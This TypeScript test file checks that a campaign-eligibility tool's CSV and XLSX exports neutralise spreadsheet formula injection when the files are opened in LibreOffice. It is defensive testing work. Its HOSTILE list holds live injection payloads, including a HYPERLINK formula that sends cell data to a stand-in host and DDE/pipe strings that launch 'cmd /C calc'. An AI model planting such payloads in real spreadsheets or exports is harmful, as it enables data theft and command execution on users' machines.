import { readFileSync, writeFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'
import { restoreFormula } from '../../src/text/neutralise-formula.js'
import { createWorkplace } from '../e2e/program.js'
import { inLibreOffice, isLibreOfficeMissing, openSheets, partsOf, type SeenCell, saveAsXlsx } from './libreoffice.js'

const TABLES = ['report', 'allocation', 'review', 'rejects'] as const

/** What a spreadsheet would calculate, call or look up if it took these for more than text. */
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*9',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  ' =1+1',
  '\u200b=1+1',
  '=DDE("cmd","/C calc","x")',
  '"=1+1',
  "'=1+1",
  'sep=;',
  'ID',
]
const PLAIN = [
  '19812345678901234567',
  '0070012300',
  '1E9',
  '3/4',
  '2025-10-25',
  '是的，中文“引号”',
  '繁體字與𠮷野家',
  'TRUE',
  '1,5',
]
const IDS = [...HOSTILE, ...PLAIN]

const CAMPAIGN = `name: "=1+1 活动"
zone: "+08:00"
window: { from: 2025-10-24 18:00, to: 2025-11-04 24:00 }
rules: { length: { min: 3 }, hashtag: { any: ["#发帖赢代币CGN"] }, originality: }
prizes:
  name: "@SUM(1,1)"
  asset: "+CGN"
  pool: "3.000000000000000003"
  rank: [likes]
  ladder: [{ name: "=2+2 一等奖", places: 3, amount: "1.000000000000000001" }]
`

/** Posts whose ids are all that, each by an author of the same name; every third asks for a human, every fifth is rejected. */
const POSTS = IDS.map((id, i) => ({
  post_id: id,
  user_id: id,
  posted_at: i % 5 === 4 ? `${id} soon` : '2025-10-25 12:00:00',
  content: `这是第${i}条体验，写得各不相同 ${i * 7919}`,
  hashtags: i % 3 === 0 ? '#发帖赢代币CGNX' : '#发帖赢代币CGN',
  likes: String(100 - i),
}))

describe.skipIf(isLibreOfficeMissing)(inLibreOffice('what LibreOffice makes of a result'), () => {
  const place = createWorkplace()
  const fileOf = (name: string) => place.path('out', name)
  /** The rows of a table as written, and as they were before they were made harmless. */
  const written = (table: string): string[][] => parse(readFileSync(fileOf(`${table}.csv`)), { bom: true })
  const original = (table: string) => written(table).map((row) => row.map(restoreFormula))
  const textsOf = (rows: readonly (readonly SeenCell[])[]) => rows.map((row) => row.map(({ text }) => text))

  beforeAll(() => {
    place.put('campaign.yaml', CAMPAIGN)
    place.put('posts.json', JSON.stringify(POSTS))
    const { code, err } = place.eligo('check', 'posts.json', '-o', 'out', '--xlsx', '--lang', 'zh')
    expect([code, err]).toEqual([1, ''])
    for (const table of TABLES) expect(written(table).length, table).toBeGreaterThan(3)
  })

  it('would see a formula, and a number in place of an id, if there were any', () => {
    writeFileSync(fileOf('bare.csv'), '19812345678901234567,=1+1\r\n')
    const [[id, sum]] = openSheets(fileOf('bare.csv')).bare as [[SeenCell, SeenCell]]
    expect([id.isText, sum]).toEqual([false, { isText: false, text: '2' }])
    expect(partsOf(saveAsXlsx(fileOf('bare.csv')))['xl/worksheets/sheet1.xml']).toMatch(/<f\b/)
  })

  it.each(TABLES)('%s of report.xlsx: every cell is the text that it was, and is text', (table) => {
    const seen = openSheets(fileOf('report.xlsx'))[table]!
    expect(textsOf(seen)).toEqual(original(table))
    const numbers = seen
      .slice(1)
      .flatMap((row) => row.flatMap(({ isText, text }, i) => (isText || text === '' ? [] : [i])))
    const own = ['characters', 'place', 'line'].map((name) => original(table)[0]!.indexOf(name))
    expect(own).toEqual(expect.arrayContaining([...new Set(numbers)]))
  })

  it('report.xlsx saved again holds no formula, and still offers the decisions', () => {
    const parts = partsOf(saveAsXlsx(fileOf('report.xlsx')))
    for (const [name, xml] of Object.entries(parts))
      if (name.startsWith('xl/worksheets/')) expect(xml).not.toMatch(/<f\b/)
    expect(parts['xl/worksheets/sheet3.xml']).toContain('accept,reject,disqualify,replace')
  })

  it.each(TABLES)('%s.csv, opened as it comes: nothing is calculated, and words are unchanged', (table) => {
    const rows = written(table)
    const seen = openSheets(fileOf(`${table}.csv`))[table]!
    const texts = seen.flatMap((row, line) =>
      row.flatMap((cell, i) => (cell.isText ? [[cell.text, rows[line]![i]]] : [])),
    )
    for (const [found, expected] of texts) expect(found).toBe(expected)
    // What became a number was written as one, or as a date.
    for (const [line, row] of seen.entries())
      for (const [i, { isText }] of row.entries())
        if (!isText) expect(rows[line]![i]).toMatch(/^(?:|[\d.,/:TE+-]+|TRUE)$/)
    expect(partsOf(saveAsXlsx(fileOf(`${table}.csv`)))['xl/worksheets/sheet1.xml']).not.toMatch(/<f\b/)
  })

  it.each(TABLES)('%s.csv, opened with its columns as text: ids and all else are whole', (table) => {
    expect(textsOf(openSheets(fileOf(`${table}.csv`), 'all-text')[table]!)).toEqual(written(table))
  })
})
